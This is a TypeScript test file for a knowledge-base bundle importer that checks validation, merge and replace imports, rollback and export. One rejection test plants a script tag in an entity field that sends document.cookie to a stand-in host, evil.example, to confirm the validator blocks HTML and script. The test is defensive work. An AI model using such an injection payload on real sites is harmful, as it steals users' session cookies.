import 'fake-indexeddb/auto';
import { describe, expect, it } from 'vitest';
import type { Bundle } from '../../bundle/schema';
import { contentHash } from '../../bundle/content-hash';
import { countKnowledgeBase, replaceKnowledgeBase, type BackstoryDb } from '../db';
import { dumpDb } from '../../../tests/fixtures/db-dump';
import { seedBundle, UPDATE_ONLY, updatedBundle } from '../../../tests/fixtures/bundles';
import {
  applyImport,
  checkBundleFile,
  exportKnowledgeBase,
  importBundleFile,
  MAX_BUNDLE_BYTES,
  prepareImport,
  rollbackLastImport,
  rollbackTarget,
  type BundleFile,
} from './importer';
import { readKnowledgeBase } from './read-kb';
import { testDatabases } from '../../../tests/fixtures/test-db';

const fileOf = (text: string, name = 'bundle.json'): BundleFile => ({
  name,
  size: new TextEncoder().encode(text).length,
  text: async () => text,
});
const jsonFile = (value: unknown) => fileOf(JSON.stringify(value));

const seed = await seedBundle();
const updated = await updatedBundle();

const openDb = testDatabases('import');
async function seededDb(): Promise<BackstoryDb> {
  const db = openDb();
  await replaceKnowledgeBase(db, seed, 'seed', { importedAt: '2026-03-02T00:00:00.000Z' });
  return db;
}

const clone = <T>(value: T): T => structuredClone(value);
async function rehashed(bundle: Bundle): Promise<Bundle> {
  return { ...bundle, contentHash: await contentHash(bundle) };
}

describe('checking a bundle file', () => {
  const cases: [string, () => BundleFile | Promise<BundleFile>, string, RegExp][] = [
    ['an empty file', () => fileOf(''), '(file)', /empty/],
    ['a file of spaces', () => fileOf('  \n '), '(file)', /empty/],
    ['text that is not JSON', () => fileOf('<!doctype html><p>Not a bundle</p>'), '(file)', /not JSON/],
    ['truncated JSON', () => fileOf(JSON.stringify(seed).slice(0, 5_000)), '(file)', /cut off/],
    ['JSON cut off right after a key', () => fileOf('{"format":"backstory.bundle","name"'), '(file)', /cut off/],
    [
      'JSON of another format',
      () => jsonFile({ type: 'FeatureCollection', features: [] }),
      'format',
      /not a Backstory bundle/,
    ],
    [
      'a bundle of a newer version',
      () => jsonFile({ ...seed, version: 2 }),
      'version',
      /newer than this Backstory understands/,
    ],
    [
      'a schema error',
      () => jsonFile({ ...seed, entities: [{ ...seed.entities[0]!, type: 'animal' }, ...seed.entities.slice(1)] }),
      'entities[0].type',
      /person.*group.*place/,
    ],
    [
      'duplicate entity ids',
      () => jsonFile({ ...seed, entities: [...seed.entities, seed.entities[3]] }),
      `entities[${seed.entities.length}].id`,
      /Duplicate entity id/,
    ],
    [
      'evidence pointing to a missing article',
      async () => {
        const b = clone(seed);
        b.articles = b.articles.slice(1);
        return jsonFile(await rehashed(b));
      },
      '',
      /does not contain/,
    ],
    [
      'a string holding a script',
      async () => {
        const b = clone(seed);
        b.entities[0]!.role = 'Founder <script>fetch("https://evil.example/"+document.cookie)</script>';
        return jsonFile(await rehashed(b));
      },
      'entities[0].role',
      /HTML or script/,
    ],
    [
      'content changed after the bundle was made',
      () => {
        const b = clone(seed);
        b.entities[0]!.role = 'Someone else';
        return jsonFile(b);
      },
      'contentHash',
      /changed or damaged/,
    ],
  ];

  it.each(cases)('rejects %s with a message and its path', async (_, makeFile, path, message) => {
    const result = await checkBundleFile(await makeFile());
    if (result.ok) throw new Error('expected a rejection');
    expect(result.problems.length).toBeGreaterThan(0);
    expect(result.problems.length).toBeLessThanOrEqual(20);
    if (path) expect(result.problems[0]!.path).toBe(path);
    expect(result.problems[0]!.message).toMatch(message);
  });

  it('refuses a 200 MB file by its size, without reading it', async () => {
    let read = false;
    const result = await checkBundleFile({
      name: 'huge.json',
      size: 200 * 1024 * 1024,
      text: async () => ((read = true), ''),
    });
    expect(read).toBe(false);
    expect(result).toMatchObject({
      ok: false,
      problems: [{ path: '(file)', message: expect.stringMatching(/200 MB.*up to 180 MB/) }],
    });
    expect(MAX_BUNDLE_BYTES).toBeLessThan(200 * 1024 * 1024);
  });

  it('accepts the seed bundle, with a byte-order mark too, and reports at most 20 problems', async () => {
    expect((await checkBundleFile(jsonFile(seed))).ok).toBe(true);
    expect((await checkBundleFile(fileOf(`\uFEFF${JSON.stringify(seed)}`))).ok).toBe(true);
    const broken = { ...seed, entities: seed.entities.map((e) => ({ ...e, aliases: [] })) };
    const result = await checkBundleFile(jsonFile(broken));
    expect(result.ok ? 0 : result.problems.length).toBe(20);
  });

  it('leaves the database exactly as it was for each bad file', async () => {
    const db = await seededDb();
    const before = await dumpDb(db);
    for (const [, makeFile] of cases) {
      for (const mode of ['merge', 'replace'] as const) {
        const result = await importBundleFile(db, await makeFile(), mode);
        expect(result.ok).toBe(false);
      }
    }
    expect(await dumpDb(db)).toBe(before);
  });
});

describe('previewing an import', () => {
  it('counts entities and articles new, changed and removed for merge and for replace', async () => {
    const db = await seededDb();
    const before = await dumpDb(db);
    const smaller = clone(updated);
    smaller.entities = smaller.entities.filter((e) => e.id !== 'place/doha');
    for (const e of smaller.entities) e.related = e.related.filter((r) => r.entityId !== 'place/doha');
    const incoming = await rehashed(smaller);
    const prepared = await prepareImport(db, fileOf('', 'week-10.json'), incoming);
    expect(await dumpDb(db)).toBe(before);

    const { replace, merge } = prepared.preview.diffs;
    expect(replace.entities.added).toBe(UPDATE_ONLY.length);
    expect(replace.entities.examples.added.map((e) => e.name).sort()).toEqual(['Lahore', 'Maryam Nawaz', 'Punjab']);
    expect(replace.entities.removed).toBe(1);
    expect(replace.entities.examples.removed).toEqual([{ id: 'place/doha', name: 'Doha' }]);
    expect(replace.entities.changed).toBeGreaterThan(0); // the new article quotes Imran Khan's party, Islamabad, Peshawar…
    // The examples are the first changed entities in id order; related lists change with every new article,
    // so the party is checked on its own: the new article adds to its evidence.
    expect(replace.entities.examples.changed.length).toBeGreaterThan(0);
    const party = (b: typeof seed) =>
      b.entities.find((e) => e.id === 'group/pakistan-tehreek-e-insaf')!.evidence.length;
    expect(party(updated)).toBeGreaterThan(party(seed));
    expect(replace.entities.added + replace.entities.changed + replace.entities.unchanged).toBe(
      incoming.entities.length,
    );
    expect(replace.articles).toMatchObject({ added: 1, removed: 0 });
    // A merge keeps what the incoming bundle lacks.
    expect(merge.entities).toMatchObject({ added: 3, removed: 0 });
    expect(merge.entities.unchanged).toBeGreaterThan(0);
    expect(prepared.preview.bundle).toMatchObject({
      name: 'Pakistan security and politics, week 10',
      version: 1,
      entities: incoming.entities.length,
      articles: 7,
    });
    expect(prepared.preview.current).toMatchObject({ bundleName: seed.name, origin: 'seed' });
  });
});

describe('applying an import', () => {
  it('replaces: the database holds the incoming bundle, and export gives it back', async () => {
    const db = await seededDb();
    const result = await importBundleFile(db, jsonFile(updated), 'replace');
    expect(result).toMatchObject({
      ok: true,
      value: { bundleName: updated.name, origin: 'import', contentHash: updated.contentHash },
    });
    const stored = await readKnowledgeBase(db);
    expect(await contentHash(stored!)).toBe(updated.contentHash);
    expect(await countKnowledgeBase(db)).toMatchObject({
      entities: updated.entities.length,
      articles: updated.articles.length,
    });
  });

  it('merges: updates by id, adds evidence and aliases, keeps the rest', async () => {
    const db = await seededDb();
    const incoming = clone(updated);
    // Only the update's own entities and one known entity, with an extra alias.
    incoming.entities = incoming.entities.filter(
      (e) => UPDATE_ONLY.includes(e.id as (typeof UPDATE_ONLY)[number]) || e.id === 'person/imran-khan',
    );
    const khan = incoming.entities.find((e) => e.id === 'person/imran-khan')!;
    khan.aliases.push('Imran Ahmed Khan Niazi');
    khan.role = 'Founder of PTI';
    const keep = new Set(incoming.entities.map((e) => e.id as string));
    for (const e of incoming.entities) e.related = e.related.filter((r) => keep.has(r.entityId));
    const result = await importBundleFile(db, jsonFile(await rehashed(incoming)), 'merge');
    expect(result.ok).toBe(true);
    const stored = (await readKnowledgeBase(db))!;
    expect(stored.entities.length).toBe(seed.entities.length + UPDATE_ONLY.length);
    const storedKhan = stored.entities.find((e) => e.id === 'person/imran-khan')!;
    const seedKhan = seed.entities.find((e) => e.id === 'person/imran-khan')!;
    expect(storedKhan.role).toBe('Founder of PTI');
    expect(storedKhan.aliases).toEqual(expect.arrayContaining([...seedKhan.aliases, 'Imran Ahmed Khan Niazi']));
    expect(storedKhan.evidence.length).toBeGreaterThanOrEqual(seedKhan.evidence.length);
    expect(stored.entities.find((e) => e.id === 'place/doha')).toEqual(
      seed.entities.find((e) => e.id === 'place/doha'),
    );
    expect(stored.contentHash).toBe(await contentHash(stored));
  });

  it('rolls the last import back to exactly the state before it, once', async () => {
    const db = await seededDb();
    const before = await dumpDb(db, { content: true });
    expect(await rollbackTarget(db)).toBeNull();
    expect((await importBundleFile(db, jsonFile(updated), 'replace')).ok).toBe(true);
    expect(await rollbackTarget(db)).toMatchObject({ bundleName: seed.name });
    expect(await rollbackLastImport(db)).toMatchObject({ ok: true, value: { bundleName: seed.name } });
    expect(await dumpDb(db, { content: true })).toBe(before);
    expect(await rollbackLastImport(db)).toMatchObject({
      ok: false,
      problems: [{ message: expect.stringMatching(/no import to roll back/) }],
    });
  });

  it('exports a bundle that imports back to the same state', async () => {
    const db = await seededDb();
    expect((await importBundleFile(db, jsonFile(updated), 'replace')).ok).toBe(true);
    const stateBefore = await readKnowledgeBase(db);
    const exported = (await exportKnowledgeBase(db))!;
    expect(exported.fileName).toMatch(/^backstory-pakistan-security-and-politics-week-10-\d{4}-\d{2}-\d{2}\.json$/);
    expect((await importBundleFile(db, fileOf(exported.json), 'replace')).ok).toBe(true);
    expect(await readKnowledgeBase(db)).toEqual(stateBefore);
    expect(JSON.parse(exported.json)).toEqual(stateBefore);
  });

  it('writes nothing when the knowledge base changed after the preview', async () => {
    const db = await seededDb();
    const prepared = await prepareImport(db, fileOf('', 'a.json'), updated);
    await replaceKnowledgeBase(db, seed, 'import');
    const before = await dumpDb(db);
    expect(await applyImport(db, prepared, 'replace')).toMatchObject({
      ok: false,
      problems: [{ message: expect.stringMatching(/changed after this preview/) }],
    });
    expect(await dumpDb(db)).toBe(before);
  });

  it('keeps the previous knowledge base whole when the import stops midway', async () => {
    const db = await seededDb();
    const before = await dumpDb(db);
    const prepared = await prepareImport(db, fileOf('', 'a.json'), updated);
    let chunks = 0;
    const stop = () => {
      if (++chunks === 1) throw new Error('the page was closed');
    };
    await expect(applyImport(db, prepared, 'replace', stop)).rejects.toThrow('the page was closed');
    expect(await dumpDb(db)).toBe(before);
  });

  it('reports progress that grows to the number of rows', async () => {
    const db = await seededDb();
    const seen: number[] = [];
    let total = 0;
    await importBundleFile(db, jsonFile(updated), 'replace', (p) => {
      seen.push(p.written);
      total = p.total;
    });
    expect(seen.length).toBeGreaterThan(0);
    expect(seen).toEqual([...seen].sort((a, b) => a - b));
    expect(seen.at(-1)).toBe(total);
  });
});
